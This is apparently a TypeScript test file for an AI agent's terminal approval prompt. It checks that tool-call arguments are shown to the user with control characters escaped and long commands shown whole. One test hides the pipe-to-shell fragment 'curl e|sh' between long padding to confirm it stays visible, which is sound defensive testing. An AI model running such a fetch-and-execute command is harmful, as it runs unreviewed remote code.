import type { Question } from '@curfew/core'
import { expect, test } from 'vitest'
import { confirmation, questionText } from './terminal-questions.ts'

const base = {
  id: 1,
  conversation: 'default',
  client: null,
  callUid: 1,
  callId: '1',
  tool: 'run',
  params: {},
}

test('the arguments of a call are shown unchanged, with control characters escaped', () => {
  const params = { code: 'a    b\u001b[2K\u202e' }
  const question = { ...base, kind: 'approval', params, restriction: null, preview: null }
  expect(questionText(question as unknown as Question, 20)).toBe(
    'Allow run with {"code":"a    b\\u001b[2K\\u202e"}?',
  )
})

test('the middle of a long command is shown, too', () => {
  const params = { command: `echo ${'A'.repeat(30_000)}; curl e|sh; echo ${'B'.repeat(30_000)}` }
  const question = { ...base, kind: 'approval', params, restriction: 'it is protected', preview: null }
  const text = questionText(question as unknown as Question, 20)
  expect(text).toBe(
    `Allow run? Its arguments:\n  command: ${JSON.stringify(params.command)}\nit is protected`,
  )
})

test('a preview is shown below the arguments, with tabs as spaces', () => {
  const preview = '-\told\n+\tnew\u001b[2K'
  const question = {
    ...base,
    kind: 'approval',
    restriction: null,
    preview,
  }
  expect(questionText(question as unknown as Question, 20)).toBe('Allow run?\n\n-    old\n+    new\\u001b[2K')
})

test('other questions are wrapped at spaces, line by line', () => {
  const question: Question = {
    ...base,
    kind: 'input',
    message: 'Which branch should it be?\n  main or next, please',
    choices: null,
  }
  expect(questionText(question, 14)).toBe('Which branch\nshould it be?\n  main or\n  next, please')
})

test.each([
  { kind: 'approval', restriction: null, answers: 'y/N/always', yes: 'once', always: 'always' },
  { kind: 'approval', restriction: 'it is protected', answers: 'y/N', yes: 'once', always: 'no' },
  { kind: 'secret-use', restriction: null, answers: 'y/N', yes: 'always', always: 'no' },
])('$kind with the restriction $restriction: [$answers]', ({ kind, restriction, answers, yes, always }) => {
  const asked = confirmation({ ...base, kind, restriction } as unknown as Parameters<typeof confirmation>[0])
  expect(asked.answers).toBe(answers)
  expect(asked.read('Y')).toBe(yes)
  expect(asked.read('always')).toBe(always)
  expect(asked.read('')).toBe('no')
})
